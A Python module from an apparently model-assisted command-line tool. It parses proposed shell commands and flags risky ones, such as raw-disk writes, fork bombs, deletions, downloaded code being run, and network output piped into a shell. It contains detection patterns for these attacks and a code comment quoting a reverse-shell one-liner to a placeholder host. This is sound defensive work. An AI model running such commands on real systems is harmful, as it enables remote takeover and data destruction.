"""Which proposed shell commands deserve a warning before anyone runs them.

The warning comes from fixed rules, never from the model: a model that wrote
``rm -rf`` is the last one to ask whether ``rm -rf`` is dangerous, and a fixed
rule set is the same on every run and can be tested. The rules judge the
command line as the shell would run it, not its spelling: ``parser`` reads
it (quotes, escapes, substitutions, compound commands), ``words`` expands
each word (braces, known variables, ``$IFS`` splitting), and this module follows
each command through paths (``/bin/rm``), wrappers (``sudo``, ``timeout``,
``xargs``, ``find -exec``, ``busybox``), shell strings (``sh -c``, ``eval``, ``su -c``)
and substitutions, down to what really runs.

They err towards warning (a needless warning costs a glance; a missing one can
cost a disk), but quoted text (``echo '>'``, ``grep -r 'rm -rf'``) is data, not a
command, and a redirect is flagged only over a file that already exists in the
directory the command would run in (``> new.txt`` destroys nothing). What cannot
be parsed, or names its command only at run time (``$X``, ``"$(...)"``), or feeds
another command's output to an interpreter as code, is flagged as such: the
rules cannot vouch for what they cannot see.
"""

from __future__ import annotations

import contextlib
import os
import re
from dataclasses import dataclass, replace
from pathlib import Path

from .commands import (
    DELETERS,
    DOWNLOADERS,
    SHELLS,
    command_name,
    interpreter,
    is_privileged,
    joined,
    split_options,
    unwrap,
)
from .effects import asks_only_to_read, file_change
from .facts import endless, known_vars, written_files
from .parser import (
    MAX_DEPTH,
    Command,
    Compound,
    FuncDef,
    ParseError,
    Pipeline,
    Redirect,
    Script,
    Simple,
    Sub,
    Word,
    parse,
)
from .programs import scan_code
from .rules import REASONS, name_rules
from .words import Field, expand

__all__ = ["Risk", "assess", "file_changes"]

# Shells whose syntax is not POSIX: their lines are not read, so they are flagged.
_FOREIGN_SHELLS = {"pwsh": "PowerShell", "powershell": "PowerShell", "cmd": "cmd.exe",
                   "nu": "nushell"}
_HARMLESS_TARGETS = {"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero",
                     "/dev/full", "/dev/random", "/dev/urandom", "/dev/stdin"}
_BLOCK = re.compile(r"/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|loop|dm-|md|sr\d|nbd|zram"
                    r"|mtd|ram\d|mapper/|bcache|ubi|mem$|kmem$|port$|fd\d)")
_HOLE = "${__lamp_unknown__}"


@dataclass(frozen=True)
class Risk:
    """One reason to look twice: ``rule`` names it, ``reason`` is said to the user."""

    rule: str
    reason: str


@dataclass(frozen=True)
class _Ctx:
    """Where a command runs: ``stdin`` the commands whose output it reads (None: not a
    pipe), ``background`` after ``&``, inside a loop that never ends, inside function
    ``func``, ``depth`` of shell strings it was found in."""

    stdin: frozenset[str] | None = None
    background: bool = False
    forever: bool = False
    func: str = ""
    depth: int = 0


class _Checker:
    def __init__(self, cwd: Path) -> None:
        self.cwd = cwd
        self.found: list[Risk] = []
        self.env: dict[str, str | None] = {}
        self.downloads: set[str] = set()  # file names fetched by curl -o & co; "*": unknown
        self.generated: set[str] = set()  # file names this line writes (echo ... > x.sh)
        self._sub_names: dict[int, frozenset[str]] = {}
        self.changes: list[str] = []  # how the line changes files, in words, once each

    # -- findings

    def flag(self, rule: str) -> None:
        reason = REASONS[rule]
        if all(r.reason != reason for r in self.found):
            self.found.append(Risk(rule, reason))

    def changed(self, how: str) -> None:
        if how not in self.changes:
            self.changes.append(how)

    def _overwrite(self, target: str) -> None:
        risk = Risk("redirect-overwrite", f"overwrites the existing file {target}")
        if risk not in self.found:
            self.found.append(risk)

    # -- the tree

    def script(self, script: Script, ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        for chain, sep in script.items:
            item = replace(ctx, background=ctx.background or sep == "&")
            for pipeline in chain:
                names |= self.pipeline(pipeline, item)
        return names

    def pipeline(self, pipeline: Pipeline, ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        upstream: set[str] = set()
        for i, command in enumerate(pipeline.commands):
            stage = replace(ctx, stdin=frozenset(upstream) if i else ctx.stdin)
            if len(pipeline.commands) > 1:
                stage = replace(stage, background=True)  # every stage is its own process
            got = self.command(command, stage)
            upstream |= got
            names |= got
        return names

    def command(self, command: Command, ctx: _Ctx) -> set[str]:
        if isinstance(command, FuncDef):
            return self.command(command.body, _Ctx(func=command.name, depth=ctx.depth))
        if isinstance(command, Simple):
            return self.simple(command, ctx)
        return self.compound(command, ctx)

    def compound(self, command: Compound, ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        for word in command.words:
            names |= self.word_subs(word, ctx)
        names |= self.redirects(command.redirects, ctx)
        if command.kind in ("while", "until"):
            cond, body = command.parts
            names |= self.script(cond, ctx)
            loop = replace(ctx, background=False,
                           forever=ctx.forever or endless(cond, command.kind == "until"))
            return names | self.script(body, loop)
        if command.kind == "for" and re.fullmatch(r"[^;]*;\s*;[^;]*", command.text):
            return names | self.script(command.parts[0], replace(ctx, background=False,
                                                                 forever=True))
        for part in command.parts:
            names |= self.script(part, ctx)
        return names

    def simple(self, command: Simple, ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        for _, word in command.assigns:
            names |= self.word_subs(word, ctx)
        for word in command.words:
            names |= self.word_subs(word, ctx)
        names |= self.redirects(command.redirects, ctx)
        fields = [f for word in command.words for f in expand(word, self.env)]
        return names | self.run(fields, ctx, command.redirects)

    def word_subs(self, word: Word | None, ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        for sub in word.subs() if word is not None else ():
            names |= self.sub(sub, ctx)
        return names

    def sub(self, sub: Sub, ctx: _Ctx) -> frozenset[str]:
        """The commands a substitution runs (checked once)."""
        if id(sub) not in self._sub_names:
            # A process substitution's reader or writer is another command: unknown input.
            inner = _Ctx(stdin=frozenset({"?"}) if sub.kind == "process" else None,
                         forever=ctx.forever, func=ctx.func, depth=ctx.depth)
            self._sub_names[id(sub)] = frozenset(self.script(sub.script, inner))
        return self._sub_names[id(sub)]

    def redirects(self, redirects: list[Redirect], ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        for redirect in redirects:
            names |= self.word_subs(redirect.target, ctx) | self.word_subs(redirect.body, ctx)
            if _net_redirect(redirect, self.env):
                names.add("/dev/tcp")
                continue
            if redirect.op in ("<", "<<", "<<-", "<<<", "<&") or redirect.target is None:
                continue
            fields = expand(redirect.target, self.env)
            if len(fields) != 1 or fields[0].dynamic:
                continue
            target = fields[0].text
            if redirect.op in (">&", "<&") and (target.isdigit() or target == "-"):
                continue  # 2>&1 duplicates a descriptor
            self.write_to(target, append=redirect.op in (">>", "&>>", "<>"))
        return names

    def write_to(self, target: str, *, append: bool) -> None:
        path = os.path.normpath(os.path.expanduser(target)) if target else target
        if not path or path in _HARMLESS_TARGETS:
            return
        full = self.cwd / path
        if _BLOCK.match(path) or (path.startswith("/dev/") and full.is_block_device()) \
                or full.is_block_device():
            self.flag("raw-disk")
        elif path.startswith("/proc/sysrq-trigger"):
            self.flag("power")
        elif path.startswith("/dev/"):
            return
        else:
            self.generated.add(command_name(path))
            self.changed(f"writes {target}")
            if not append and full.exists():
                self._overwrite(target)

    # -- one command

    def run(self, fields: list[Field], ctx: _Ctx, redirects: list[Redirect]) -> set[str]:
        """Check the command ``fields`` would run; the names of the commands it runs."""
        if not fields:
            return set()
        head = fields[0]
        name = command_name(head.text)
        if ctx.background and (ctx.forever or (ctx.func and name == ctx.func.lower())):
            self.flag("fork-bomb")  # spawns itself, or spawns in a loop that never ends
        if head.expanded or head.glob:
            self.flag("unknown-command")
            if head.dynamic or head.glob:
                return {"?"}
        args = fields[1:]
        names = {name}
        how = file_change(name, args)
        if how is not None:
            self.changed(how)
        if is_privileged(name):
            self.flag("privileges")
        wrapped = unwrap(name, args)
        if wrapped is not None:
            for code in wrapped.code:
                names |= self.shell_string(code, ctx)
            if wrapped.command:
                names |= self.run(wrapped.command, ctx, redirects)
            return names
        if name in ("busybox", "toybox") and args:
            return names | self.run(args, ctx, redirects)
        if name == "find":
            return names | self.find(args, ctx)
        if name in ("xargs", "parallel"):
            return names | self.xargs(args, ctx)
        if name in SHELLS:
            return names | self.shell(args, ctx, redirects)
        if name == "eval":
            code = joined(args)
            if code.dynamic and not code.subs:  # eval "$x": code only known when it runs
                self.flag("hidden-code")
            return names | self.shell_string(code, ctx)
        if name in ("source", "."):
            if args:
                self.program_file(args[0], ctx, redirects, shell=True)
            return names
        spec = interpreter(name)
        if spec is not None:
            return names | self.interpreter(spec.language, args, ctx, redirects)
        for rule in name_rules(name, args):
            self.flag(rule)
        for target in written_files(name, args):
            path = os.path.normpath(os.path.expanduser(target))
            if name == "tee":
                self.write_to(target, append=False)
            elif _BLOCK.match(path) or (self.cwd / path).is_block_device():
                self.flag("raw-disk")
            elif name == "mv" and path.startswith("/dev/"):
                self.flag("move-to-device")  # `mv f /dev/null`: f is gone, and as root so is null
            elif name in ("cp", "mv", "install") and (self.cwd / path).is_file() and not (
                    _short_option(args, "niu") or any(a.text in ("--no-clobber", "--interactive",
                                                                 "--update") for a in args)):
                self._overwrite(target)
        if "/" in head.text:
            self.ran_file(head.text)
        if name in DOWNLOADERS:
            self.record_download(name, args, redirects, ctx)
        elif (name == "git" and any(a.text == "clone" for a in args)) or (
                name in ("scp", "sftp", "rsync") and any(
                    re.match(r"[^/]*:", a.text) for a in args if not a.text.startswith("-"))):
            self.downloads.add("*")  # a clone or remote copy: any file may come from it
        elif name == "tee" and ctx.stdin and ctx.stdin & DOWNLOADERS:
            self.downloads.update(command_name(a.text) for a in args
                                  if not a.text.startswith("-"))
        return names

    def find(self, args: list[Field], ctx: _Ctx) -> set[str]:
        names: set[str] = set()
        i = 0
        while i < len(args):
            text = args[i].text
            if text == "-delete":
                self.flag("find-delete")
            if text in ("-exec", "-execdir", "-ok", "-okdir"):
                end = next((j for j in range(i + 1, len(args))
                            if args[j].text in (";", "+")), len(args))
                ran = self.run(args[i + 1:end], replace(ctx, stdin=None), [])
                if ran & DELETERS:
                    self.flag("find-delete")
                names |= ran
                i = end
            i += 1
        return names

    def xargs(self, args: list[Field], ctx: _Ctx) -> set[str]:
        _, rest = split_options(args, "IELnPsdaj", frozenset({
            "--max-args", "--max-procs", "--delimiter", "--arg-file", "--max-chars",
            "--process-slot-var", "--jobs"}))
        rest = rest[: next((i for i, f in enumerate(rest) if f.text.startswith(":::")),
                           len(rest))]
        ran = self.run(rest, replace(ctx, stdin=None), []) if rest else set()
        if ran & DELETERS:
            self.flag("rm-many")
        return ran

    def shell(self, args: list[Field], ctx: _Ctx, redirects: list[Redirect]) -> set[str]:
        if any(_net_redirect(r, self.env) for r in redirects):
            self.flag("pipe-to-shell")  # bash -i >& /dev/tcp/host/port 0>&1
        command, from_stdin, i = False, False, 0
        while i < len(args):
            text = args[i].text
            if args[i].dynamic or text[:1] not in ("-", "+") or text in ("-", "+"):
                break
            if text == "--":
                i += 1
                break
            if text in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file", "-C"):
                i += 2
                continue
            if text.startswith("--command="):
                return self.shell_string(Field(text.partition("=")[2]), ctx)
            if text == "--command" or (not text.startswith("--") and "c" in text[1:]):
                command = True
            if not text.startswith("--") and "s" in text[1:]:
                from_stdin = True
            i += 1
        operands = args[i:]
        if command:
            return self.shell_string(operands[0], ctx) if operands else set()
        if operands and not from_stdin:
            self.program_file(operands[0], ctx, redirects, shell=True)
            return set()
        return self.stdin_program(ctx, redirects, "shell")

    def interpreter(self, language: str, args: list[Field], ctx: _Ctx,
                    redirects: list[Redirect]) -> set[str]:
        if any(_net_redirect(r, self.env) for r in redirects):
            self.flag("pipe-to-shell")
        spec = interpreter({"python": "python", "perl": "perl", "ruby": "ruby",
                            "javascript": "node", "php": "php", "lua": "lua", "awk": "awk",
                            "applescript": "osascript", "tcl": "tclsh", "r": "rscript"
                            }[language])
        assert spec is not None
        options, operands = split_options(args, spec.values + spec.code + spec.module,
                                          spec.long_code)
        codes = [value for opt, value in options if value is not None and (
            (len(opt) == 2 and opt[1] in spec.code) or opt in spec.long_code)]
        if any(len(opt) == 2 and opt[1] in spec.module for opt, _ in options):
            return set()
        if language == "awk" and not any(opt == "-f" for opt, _ in options) and operands:
            codes, operands = [operands[0]], []
        if codes:
            for code in codes:
                self.program_text(code, ctx, shell=False)
            return set()
        if operands and operands[0].text != "-":
            self.program_file(operands[0], ctx, redirects, shell=False)
            return set()
        return self.stdin_program(ctx, redirects, language)

    # -- programs and where they come from

    def shell_string(self, code: Field, ctx: _Ctx) -> set[str]:
        """A string the shell will read as a command line (``sh -c``, ``eval``, ``su -c``)."""
        return self.program_text(code, ctx, shell=True)

    def program_text(self, code: Field, ctx: _Ctx, *, shell: bool) -> set[str]:
        names: set[str] = set()
        for sub in code.subs:
            names |= self.sub(sub, ctx)
        if code.subs:
            self.flag("shell-of-download" if _network(names) else "hidden-code")
        text = code.text
        if not shell:
            if not code.dynamic or code.text.strip():
                findings = scan_code(text)
                for rule in findings.rules:
                    self.flag(rule)
                for string in findings.shell_strings:
                    with contextlib.suppress(ParseError):  # a string that is not shell
                        names |= self.nested(string, ctx)
            return names
        try:  # an unknown part is read as an unknown variable ($X in X=rm; sh -c "$X -rf d")
            names |= self.nested(code.template(_HOLE) if code.dynamic else text, ctx)
        except ParseError:
            self.flag("unparsed")
        return names

    def nested(self, text: str, ctx: _Ctx) -> set[str]:
        if ctx.depth + 1 > MAX_DEPTH:
            raise ParseError("nested too deeply")
        script = parse(text, ctx.depth + 1)
        saved, self.env = self.env, known_vars(script)
        try:
            return self.script(script, replace(ctx, depth=ctx.depth + 1))
        finally:
            self.env = saved

    def program_file(self, program: Field, ctx: _Ctx, redirects: list[Redirect], *,
                     shell: bool) -> None:
        """An interpreter runs the file ``program`` (a path, ``<(...)``, ``/dev/stdin``)."""
        if program.subs or program.dynamic:
            names: set[str] = set()
            for sub in program.subs:
                names |= self.sub(sub, ctx)
            if program.subs:
                self.flag("shell-of-download" if _network(names) else "hidden-code")
            return
        if program.text in ("/dev/stdin", "-", "/proc/self/fd/0", "/dev/fd/0"):
            self.stdin_program(ctx, redirects, "shell" if shell else "?")
        else:
            self.ran_file(program.text)

    def stdin_program(self, ctx: _Ctx, redirects: list[Redirect], language: str) -> set[str]:
        """An interpreter that reads its program from stdin: a pipe, a redirect, or a person."""
        names: set[str] = set()
        if ctx.stdin is not None:
            names |= ctx.stdin
            self.flag("pipe-to-shell" if _network(ctx.stdin) else "hidden-code")
        for redirect in redirects:
            if redirect.op in ("<<", "<<-", "<<<") and redirect.target is not None:
                word = redirect.body if redirect.op != "<<<" else redirect.target
                if word is None:
                    continue
                body = joined(expand(word, self.env))
                names |= self.program_text(body, ctx, shell=language == "shell")
            elif redirect.op == "<" and redirect.target is not None:
                fields = expand(redirect.target, self.env)
                if len(fields) == 1:
                    self.program_file(fields[0], ctx, [], shell=language == "shell")
        return names

    # -- downloads

    def ran_file(self, path: str) -> None:
        """A file is run: flagged when this line downloaded or wrote it first."""
        if self._downloaded(path):
            self.flag("download-then-run")
        elif command_name(path) in self.generated:
            self.flag("hidden-code")

    def _downloaded(self, path: str) -> bool:
        if not self.downloads or path.startswith(("/usr/", "/bin/", "/sbin/")):
            return False
        return "*" in self.downloads or command_name(path) in self.downloads

    def record_download(self, name: str, args: list[Field], redirects: list[Redirect],
                        ctx: _Ctx) -> None:
        """Remember the files a downloader writes, so running one later is flagged."""
        urls = [a.text for a in args if "://" in a.text or a.dynamic]
        remote = [command_name(u.split("?")[0]) or "*" for u in urls] or ["*"]
        options, _ = split_options(args, "oOPedHuXbwaAxETtYyrkl", frozenset({
            "--output", "--output-document", "--directory-prefix", "--out"}))
        for opt, value in options:
            if opt in ("-o", "--output", "--output-document", "--out") or (
                    opt == "-O" and name not in ("curl",)):
                if value is not None and value.text != "-":
                    self.downloads.add("*" if value.dynamic else command_name(value.text))
            elif opt in ("-O", "--remote-name", "-J", "--remote-name-all"):
                self.downloads.update(remote)
        if name in ("curl",) and any(o in ("-O", "--remote-name") for o, _ in options):
            self.downloads.update(remote)
        if name in ("wget", "wget2", "aria2c", "axel") and not any(
                o in ("-O", "--output-document", "-o") for o, _ in options):
            self.downloads.update(remote)
        for redirect in redirects:
            if redirect.op in (">", ">>", ">|", "&>") and redirect.target is not None:
                fields = expand(redirect.target, self.env)
                self.downloads.update(command_name(f.text) or "*" for f in fields)


def _net_redirect(redirect: Redirect, env: dict[str, str | None]) -> bool:
    """Whether a redirect opens bash's network paths (``/dev/tcp/HOST/PORT``)."""
    if redirect.target is None:
        return False
    fields = expand(redirect.target, env)
    return any(re.match(r"/dev/(?:tcp|udp)/", f.template("x")) for f in fields)


def _short_option(args: list[Field], letters: str) -> bool:
    """Whether a short option cluster before ``--`` holds one of ``letters`` (``-n``, ``-fi``)."""
    for a in args:
        if a.text == "--":
            return False
        if a.text.startswith("-") and not a.text.startswith("--") \
                and set(a.text[1:]) & set(letters):
            return True
    return False


def _network(names: set[str] | frozenset[str]) -> bool:
    return bool(names & (DOWNLOADERS | {"/dev/tcp"}))


def file_changes(command: str, cwd: Path) -> tuple[str, ...]:
    """How ``command`` would change files if run in ``cwd``, in words (empty: it only reads,
    as far as the rules can tell; a line they cannot parse counts as reading)."""
    checker = _Checker(cwd)
    try:
        script = parse(command)
        checker.env = known_vars(script)
        checker.script(script, _Ctx())
    except (ParseError, RecursionError):
        return ()
    return tuple(checker.changes)


def assess(command: str, cwd: Path, *, shell: str = "sh", request: str = ""
           ) -> tuple[Risk, ...]:
    """The reasons to warn about ``command`` if ``shell`` ran it in ``cwd`` (empty: none
    found). A line for a shell whose syntax lamp does not read is flagged as unread.
    ``request``: what the person asked for, in words; when it only asks to see something
    and the command would change files, that is flagged too."""
    foreign = _FOREIGN_SHELLS.get(command_name(shell))
    if foreign:
        return (Risk("unparsed", f"is written for {foreign}, which lamp's risk rules cannot "
                     "read"),)
    checker = _Checker(cwd)
    try:
        script = parse(command)
        checker.env = known_vars(script)
        checker.script(script, _Ctx())
    except ParseError:
        checker.flag("unparsed")
    except RecursionError:
        checker.flag("unparsed")
    if checker.changes and asks_only_to_read(request):
        checker.found.append(Risk("changes-on-read", "; ".join(checker.changes)
                                  + " although the request only asks to see"))
    return tuple(checker.found)
